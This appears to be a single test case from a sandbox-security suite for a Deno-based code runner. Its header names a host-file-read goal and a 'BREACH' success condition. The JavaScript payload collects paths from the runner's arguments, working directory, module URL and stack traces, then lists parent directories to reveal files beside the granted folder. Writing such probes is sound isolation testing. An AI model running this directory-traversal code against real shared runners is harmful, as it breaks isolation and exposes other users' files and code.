# id: read-beside-assets
# category: host-file-read
# goal: list what lies beside the folder that the runner may read: other images, other workers, caches
# success-if: BREACH: names beside the granted folder were returned
# with: prelude.py

await claim(r"""
(async () => { const from = new Set(["/tmp", "/var/tmp"]); const out = [];
  try { from.add(JSON.parse(Deno.args[0]).image) } catch {} try { from.add(new URL(".", Deno.mainModule).pathname) } catch {} try { from.add(Deno.cwd()) } catch {}
  for (const l of (new Error().stack || "").matchAll(/file:\/\/([^:)]+)\//g)) from.add(l[1] + "/");
  for (const d of from) for (const up of ["..", "../..", "../../code", "../../../tmp"])
    try { const names = [...Deno.readDirSync(d + "/" + up)].map(e => e.name); if (names.length) out.push(d + up + ": " + names.slice(0, 4)) } catch {}
  return out.join(" ") })()
""")
